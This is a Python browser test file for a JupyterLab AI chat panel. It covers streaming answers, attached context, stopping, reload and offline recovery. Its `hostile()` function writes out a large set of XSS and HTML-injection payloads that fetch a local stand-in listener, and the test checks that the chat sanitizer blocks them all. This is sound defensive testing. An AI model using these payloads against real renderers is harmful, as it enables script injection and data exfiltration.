"""The chat panel: a conversation that streams, what goes along with it, what a hostile answer cannot do."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import nbformat
import pytest
from playwright.sync_api import Locator, expect

from nootropic_kernel.workspace.location import Workspace
from tests.agents.scripted_model import scripted_model
from tests.browser.conftest import Server
from tests.browser.lab import Lab, becomes, until

pytestmark = pytest.mark.browser

CODE = "def double(x):\n    return 2 * x"
ANSWER = f"# Doubling\n\nUse **this**:\n\n```python\n{CODE}\n```\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"


# How long it takes from the key that stops an answer to the button that sends the next one.
_STOP_CLOCK = """() => {
  const send = [...document.querySelectorAll('.noo-chat-composer button')].find(each => each.textContent === 'Send');
  document.addEventListener('keydown', event => {
    const began = event.timeStamp;
    const look = () => {
      if (!send.disabled && document.querySelector('.noo-chat-ending')) {
        window.stopTook = performance.now() - began;
      } else {
        requestAnimationFrame(look);
      }
    };
    look();
  }, { capture: true, once: true });
}"""


@pytest.fixture
def notebook(repo: Path, workspace: Workspace) -> str:
    """A notebook with a variable, and a cell that takes its time."""
    sources = ("numbers = [1, 2, 3]", "import time\ntime.sleep(600)", "")
    made = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell(source) for source in sources],
        metadata={"kernelspec": {"name": "nootropic", "display_name": "Nootropic (Python)", "language": "python"}},
    )
    nbformat.write(made, repo / "work.ipynb")
    return "work.ipynb"


def opened(lab: Lab) -> Locator:
    """The chat, at the front."""
    lab.has("nootropic:open-chat")
    lab.page.evaluate("() => window.jupyterapp.restored")
    lab.command("nootropic:open-chat")
    chat = lab.page.locator(".noo-chat")
    expect(chat.get_by_label("Message", exact=True)).to_be_focused()
    return chat


def say(chat: Locator, message: str) -> Locator:
    """Send a message; gives its entry, once it is there."""
    box, entries = chat.get_by_label("Message", exact=True), chat.locator(".noo-chat-entry")
    box.fill(message)
    expect(chat.get_by_role("button", name="Send", exact=True)).to_be_enabled()  # the answer before has ended
    before = entries.count()
    box.press("Enter")
    expect(entries).to_have_count(before + 1)
    expect(box).to_have_value("")
    return entries.nth(before)


def test_a_conversation(lab: Lab, notebook: str, person_home: Path, tmp_path: Path, repo: Path) -> None:
    page = lab.page
    gate = tmp_path / "go"
    answers = [ANSWER, {"text": "Half an answer", "stall": 60}, {"text": "Late.", "until": str(gate)}, "Fine."]
    with scripted_model(tmp_path, person_home, answers) as model:
        lab.open_notebook(notebook)
        lab.run_cell(0)
        chat = opened(lab)
        expect(chat.get_by_text("Ask about this repository")).to_be_visible()
        expect(chat.locator(".noo-chat-who")).to_contain_text("local")
        lab.picture("chat-empty")

        # What goes along is shown before it is sent: a variable of the kernel, a cell, a file.
        box = chat.get_by_label("Message", exact=True)
        box.press_sequentially("Look at @num")
        expect(chat.get_by_role("option", name="@numbers")).to_be_visible()
        box.press("Enter")
        box.press_sequentially("and @cell:1 and @boo")
        expect(chat.get_by_role("option", name="@shelf/books.py")).to_be_visible()
        lab.picture("chat-menu")
        box.press("Tab")
        chips = chat.locator(".noo-chat-chip")
        expect(chips).to_have_count(3)
        chips.nth(0).locator("summary").click()
        expect(chips.nth(0).locator("pre")).to_contain_text("[1, 2, 3]")
        expect(chips.nth(1)).to_contain_text("@cell:1")
        lab.picture("chat-chips")
        box.press("Enter")
        entry = chat.locator(".noo-chat-entry").last
        expect(entry.locator("h1")).to_have_text("Doubling¶")
        expect(entry.locator("strong")).to_have_text("this")
        expect(entry.locator("table td").first).to_have_text("1")
        expect(entry.locator(".noo-chat-sent")).to_contain_text("numbers")
        expect(entry.locator(".noo-chat-facts")).to_contain_text("local")
        expect(chat.locator(".noo-chat-window")).to_contain_text("tokens")
        expect(chat.locator(".noo-chat-spent")).to_contain_text("this chat")
        sent = model.prompts()[0]
        assert "[1, 2, 3]" in sent and "def by_title" in sent and "work.ipynb, cell 1" in sent
        lab.picture("chat-light")

        # Code goes into the open notebook, where it can be undone; no file is written.
        before = (repo / notebook).read_bytes()
        entry.get_by_role("button", name="Put it into a new cell below").click()
        source = "i => window.jupyterapp.shell.currentWidget.content.widgets[i].model.sharedModel.getSource()"
        count = "() => window.jupyterapp.shell.currentWidget.content.widgets.length"
        becomes(page, count, 4)
        active = page.evaluate("() => window.jupyterapp.shell.currentWidget.content.activeCellIndex")
        becomes(page, source, CODE, active)
        entry.get_by_role("button", name="Insert at the cursor").click()
        until(page, lambda: page.evaluate(source, active).count("def double") == 2, "the code stands there twice")
        page.evaluate("() => window.jupyterapp.shell.currentWidget.content.activeCell.editor.undo()")
        until(page, lambda: page.evaluate(source, active).count("def double") < 2, "the code was taken back")
        lab.done("notebook:undo-cell-action")
        becomes(page, count, 3)
        assert (repo / notebook).read_bytes() == before

        # Stop gives control back within a second, and what had come stays.
        entry = say(chat, "Go on")
        expect(entry).to_contain_text("Half an answer")
        # In the page's own clock, from the key to the words: no part of the browser's or the test's start is in it.
        page.evaluate(_STOP_CLOCK)
        box.press("Escape")
        expect(entry.locator(".noo-chat-ending")).to_contain_text("Stopped")
        page.wait_for_function("() => window.stopTook !== undefined")
        assert page.evaluate("() => window.stopTook") < 1000
        expect(entry).to_contain_text("Half an answer")
        lab.picture("chat-stopped")

        # A reload comes back to the chat, to the text that was not sent, and to the answer that is coming.
        say(chat, "And now?")
        box.fill("not sent yet")
        lab.kept("not sent yet", "And now?")
        page.reload()
        chat = opened(lab)
        expect(chat.get_by_label("Message", exact=True)).to_have_value("not sent yet")
        expect(chat.locator(".noo-chat-entry")).to_have_count(3)
        expect(chat.locator(".noo-chat-entry").nth(1)).to_contain_text("Half an answer")
        gate.touch()
        expect(chat.locator(".noo-chat-entry").last).to_contain_text("Late.")
        expect(chat.locator(".noo-chat-entry")).to_have_count(3)

        # A second window on the same chat keeps in step.
        other = lab.window("other", "nootropic:open-chat")
        other.evaluate("() => void window.jupyterapp.commands.execute('nootropic:open-chat')")
        expect(other.locator(".noo-chat .noo-chat-entry")).to_have_count(3)
        say(chat, "Last one")
        expect(chat.locator(".noo-chat-entry").last).to_contain_text("Fine.")
        expect(other.locator(".noo-chat .noo-chat-entry").last).to_contain_text("Fine.")
        other.close()

        chat.get_by_role("button", name="History").click()
        expect(chat.locator(".noo-chat-head")).to_have_count(1)
        lab.theme("JupyterLab Dark")
        lab.picture("chat-dark")


def test_a_message_that_is_sent_too_soon_waits(
    lab: Lab, workspace: Workspace, person_home: Path, tmp_path: Path
) -> None:
    gate = tmp_path / "go"
    answers = [{"parts": [{"text": "Half "}, {"text": "an answer.", "until": str(gate)}]}, "The next one."]
    with scripted_model(tmp_path, person_home, answers) as model:
        lab.page.goto(lab.address)
        # The launcher takes the focus when it comes; before it, nothing has been restored.
        expect(lab.page.locator(".jp-LauncherCard").first).to_be_visible()
        chat = opened(lab)
        say(chat, "One?")
        entry = chat.locator(".noo-chat-entry").first
        expect(entry).to_contain_text("Half")
        box = chat.get_by_label("Message", exact=True)
        waits = chat.get_by_role("group", name="Message that waits")
        box.fill("Two?")
        box.press("Enter")
        expect(waits).to_contain_text("Two?")
        expect(box).to_have_value("")
        lab.picture("chat-waiting")
        waits.get_by_role("button", name="Take back").click()
        expect(waits).to_be_hidden()
        expect(box).to_have_value("Two?")
        expect(box).to_be_focused()
        box.press("Enter")
        expect(waits).to_be_visible()
        gate.touch()
        expect(entry).to_contain_text("Half an answer.")
        expect(chat.locator(".noo-chat-entry").last).to_contain_text("The next one.")
        expect(waits).to_be_hidden()
        expect(chat.locator(".noo-chat-entry")).to_have_count(2)
        assert len(model.prompts()) == 2 and "Two?" in model.prompts()[1]


class Listener:
    """A server elsewhere that a hostile answer would like to reach; it notes who did."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    """The server that must not be reached."""
    running = Listener()
    yield running
    running.close()


def hostile(url: str) -> str:
    """An answer that tries what can be tried."""
    mermaid = f'graph TD\n  A["<img src=\'{url}/mermaid-img\'>"] --> B\n  click A "javascript:window.hacked=1"'
    return f"""# Hostile

<script>window.hacked = 'script'; fetch('{url}/script')</script>

<img src="{url}/img" onerror="window.hacked = 'onerror'">

<img src=x onerror="fetch('{url}/onerror')" srcset="{url}/srcset 2x">

![picture]({url}/markdown-picture)

![ref][r]

[r]: {url}/reference-picture

<svg onload="window.hacked = 'svg'"><image href="{url}/svg-image" /><use href="{url}/use#a"></use></svg>

<style>@import url("{url}/import");
@font-face {{ font-family: x; src: url("{url}/font") }} body {{ font-family: x }}</style>

<link rel="stylesheet" href="{url}/link"><base href="{url}/">

<div style="background: url({url}/style); position: fixed; inset: 0; z-index: 9999" class="jp-Dialog">cover</div>

<table background="{url}/table"><tr><td background="{url}/td">x</td></tr></table>

<video src="{url}/video" poster="{url}/poster" autoplay></video><audio src="{url}/audio" autoplay></audio>

<picture><source srcset="{url}/source"><img src="{url}/picture-img"></picture>

<iframe src="{url}/iframe"></iframe><object data="{url}/object"></object><embed src="{url}/embed">

<iframe srcdoc="<script>parent.hacked = 'srcdoc'</script>"></iframe>

<form action="{url}/form"><input autofocus onfocus="window.hacked = 'focus'"><button>Send</button></form>

<input type="image" src="{url}/input-image">

<a href="javascript:window.hacked = 'link'" id="evil">click me</a> [md](javascript:window.hacked='md')

<a href="data:text/html,<script>window.hacked = 'data'</script>">data</a>

<a href="JaVaScRiPt&colon;window.hacked = 'entity'">entity</a>
<a href="{url}/ping" ping="{url}/ping-sent">named link</a>

<button data-commandlinker-command="filebrowser:create-main-launcher">run a command</button>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.hacked='mxss'&gt;">

<details open ontoggle="window.hacked = 'toggle'"><summary>s</summary>d</details>

<meta http-equiv="refresh" content="0;url={url}/meta">

$\\href{{javascript:window.hacked='tex'}}{{x}}$ $\\style{{background:url({url}/tex)}}{{x}}$ $\\class{{jp-Dialog}}{{y}}$

```mermaid
{mermaid}
```

- in a list

  ~~~  mermaid
  {mermaid.replace(chr(10), chr(10) + "  ")}
  ~~~

```" onload="window.hacked='lang'"><img src="{url}/lang"><b x="
code
```

The end.
"""


def test_a_hostile_answer_does_nothing(
    lab: Lab, notebook: str, person_home: Path, tmp_path: Path, listener: Listener
) -> None:
    page = lab.page
    text, gate = hostile(listener.url), tmp_path / "go"
    # In pieces too: what is half there is drawn as well.
    pieces = [{"text": text[: len(text) // 2]}, {"text": text[len(text) // 2 :], "until": str(gate)}]
    with scripted_model(tmp_path, person_home, [{"parts": pieces}, text]):
        lab.open_notebook(notebook)
        chat = opened(lab)
        for number in range(2):
            entry = say(chat, f"Be hostile {number}")
            expect(entry.locator("h1")).to_contain_text("Hostile")
            gate.touch()
            expect(entry.locator(".noo-chat-facts")).to_be_visible()
            expect(entry).to_contain_text("The end.")
        # The words stay readable, a picture is a link that a person may follow.
        expect(entry.get_by_text("click me")).to_be_visible()
        expect(entry.get_by_role("link", name="▭ picture")).to_have_attribute(
            "href", f"{listener.url}/markdown-picture"
        )
        expect(entry.get_by_text("graph TD").first).to_be_visible()
        for name in ("click me", "md", "data", "entity"):
            entry.get_by_text(name, exact=True).first.click()
        lab.picture("chat-hostile")
        answer = entry.locator(".noo-chat-markdown")
        kinds = "script, style, link, svg, iframe, object, embed, form, input, video, audio, meta, base"
        expect(answer.locator(kinds)).to_have_count(0)
        assert answer.evaluate(
            """node => [...node.querySelectorAll('*')].filter(each => !each.closest('mjx-container')).flatMap(each =>
              [...each.attributes].filter(a => /^on|^style$|^data-command|^id$|^ping$|^background$/.test(a.name)
                || (a.name === 'class' && /jp-Dialog/.test(a.value))
                || (a.name === 'href' && /^\\s*(javascript|data):/i.test(a.value))).map(a => a.name))"""
        ) == []  # fmt: skip
        links = answer.evaluate("node => [...node.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))")
        files = page.url.split("/lab")[0] + "/files/"
        assert len(links) > 3 and all(link.startswith((listener.url, files, "#")) for link in links), links
        page.wait_for_timeout(500)
        assert page.evaluate("() => window.hacked") is None
        assert listener.hits == []


def test_a_busy_kernel_tells_and_commands_show_their_result(
    lab: Lab, notebook: str, person_home: Path, tmp_path: Path
) -> None:
    page = lab.page
    with scripted_model(tmp_path, person_home, ["Fine."]) as model:
        lab.open_notebook(notebook)
        lab.run_cell(0)
        page.evaluate(
            """() => { const {shell, commands} = window.jupyterapp; shell.currentWidget.content.activeCellIndex = 1;
            void commands.execute('notebook:run-cell'); }"""
        )
        page.wait_for_function(
            "() => window.jupyterapp.shell.currentWidget.sessionContext.session.kernel.status === 'busy'"
        )
        chat = opened(lab)
        box = chat.get_by_label("Message", exact=True)
        box.fill("What is @numbers?")
        chip = chat.locator("details.noo-chat-chip")
        expect(chip).to_contain_text("@numbers")
        expect(lab.cell(1).locator(".jp-InputPrompt")).to_have_text("[*]:")
        box.press("Enter")
        expect(chat.locator(".noo-chat-entry").last).to_contain_text("Fine.")
        assert "[1, 2, 3]" in model.prompts()[0]

        box.press_sequentially("/pla")
        expect(chat.get_by_role("option", name="/plan")).to_be_visible()
        box.press("Enter")
        expect(box).to_have_value("/plan ")
        box.fill("/plan Add a Reader with a name and an email to the shelf package.")
        box.press("Enter")
        entry = chat.locator(".noo-chat-entry").last
        expect(entry.locator(".noo-plan .noo-card").first).to_be_visible()
        lab.picture("chat-plan")
        entry = say(chat, "/cost --dayz 2")
        expect(entry.locator(".noo-notice")).to_contain_text("--days")
        lab.refusals.append("/nootropic/api/parse")
        page.evaluate("() => window.jupyterapp.shell.currentWidget.sessionContext.session.kernel.interrupt()")


def test_a_server_that_goes_away_takes_nothing_along(
    lab: Lab, jupyter: Server, notebook: str, person_home: Path, tmp_path: Path
) -> None:
    # The browser writes down what it cannot reach.
    lab.refusals += ["ERR_CONNECTION_REFUSED", "WebSocket", "Failed to fetch", "ERR_", "console: Error", "404"]
    page = lab.page
    with scripted_model(tmp_path, person_home, [{"text": "Half an answer", "stall": 120}, "The whole answer."]):
        lab.open_notebook(notebook)
        chat = opened(lab)
        entry = say(chat, "Go on")
        expect(entry).to_contain_text("Half an answer")
        box = chat.get_by_label("Message", exact=True)
        box.fill("not sent yet")
        jupyter.end()
        expect(chat.locator(".noo-chat-banner")).to_contain_text("does not answer")
        expect(entry).to_contain_text("Half an answer")
        expect(box).to_have_value("not sent yet")
        lab.picture("chat-offline")
        dialog = page.locator(".jp-Dialog")  # JupyterLab's own, which comes back otherwise
        dialog.get_by_role("checkbox").check()
        dialog.get_by_role("button", name="Close").click()
        jupyter.start()
        # The run is lost with the server: what had come stays, and it can be asked again.
        expect(entry.get_by_role("button", name="Retry")).to_be_visible()
        expect(chat.locator(".noo-chat-banner")).to_be_empty()
        expect(entry).to_contain_text("Half an answer")
        lab.picture("chat-restarted")
        entry.get_by_role("button", name="Retry").click()
        expect(chat.locator(".noo-chat-entry").last).to_contain_text("The whole answer.")
